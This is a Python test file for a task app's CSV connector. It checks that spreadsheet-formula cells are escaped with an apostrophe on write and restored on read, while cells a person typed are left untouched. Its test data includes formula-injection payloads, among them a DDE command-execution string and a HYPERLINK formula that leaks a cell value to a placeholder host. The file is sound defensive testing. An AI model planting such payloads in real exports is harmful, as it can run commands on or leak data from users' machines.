"""Cells that a spreadsheet would execute: we write them as text and read them back; those of people stay as they are."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasksync_gui.model.cells import guarded, unguarded
from tasksync_gui.model.fields import Field
from tasksync_gui.model.task import Draft
from tests.connectors.file.test_files_on_disk import table

FORMULAS = (
    "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", '"=1', "＝1", "＋1", "－1", "＠x", "'=1", "''=1", "' +1", '=cmd|"/c calc"!A1',
    "=HYPERLINK(\"http://x/?\"&A1;\"y\")",
)  # fmt: skip
HARMLESS = ("Buy milk", "'tis the season", "1-2", "a=b", "", "'", "''", "“=1", "x\t=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_executed_is_text(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_anything_else_is_as_it_is(text: str) -> None:
    assert (guarded(text), unguarded(text)) == (text, text)


@given(st.text(alphabet=st.one_of(st.sampled_from("'\"=+-@ \t\r\n＝a"), st.characters())))
def test_what_is_read_is_what_was_written(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("title", [text for text in FORMULAS if text == text.strip()])
async def test_a_title_is_written_as_text_and_read_as_it_was(tmp_path, title):
    path = tmp_path / "tasks.csv"
    path.write_text("id,title,notes\n")
    made = await table(path).create("", Draft({Field.TITLE: title, Field.NOTES: title}), "m")
    (row,) = csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8"), newline=""))
    assert (row["title"], row["notes"]) == (f"'{title}", f"'{title}")
    (task,) = (await table(path).snapshot("")).tasks
    assert (task.id, task.fields[Field.TITLE], task.fields[Field.NOTES]) == (made.id, title, title)
    await table(path).update("", task.id, {Field.TITLE: f"{title}!"}, task.revision)
    (task,) = (await table(path).snapshot("")).tasks
    assert task.fields[Field.TITLE] == f"{title}!"


async def test_cells_that_a_person_wrote_keep_every_byte(tmp_path):
    path = tmp_path / "tasks.csv"
    path.write_text('id,title,notes,sum\n1,=1+1,+49 30 1,=B2\n2,\'=x,-,"="\n')
    connector = table(path)
    first, second = (await connector.snapshot("")).tasks
    assert [first.fields[Field.TITLE], second.fields[Field.TITLE]] == ["=1+1", "=x"]
    await connector.update("", first.id, {Field.NOTES: "+49 30 2", Field.TITLE: "=1+1"}, first.revision)
    await connector.update("", second.id, {Field.NOTES: "none"}, second.revision)
    assert path.read_text() == "id,title,notes,sum\n1,=1+1,'+49 30 2,=B2\n2,'=x,none,\"=\"\n"
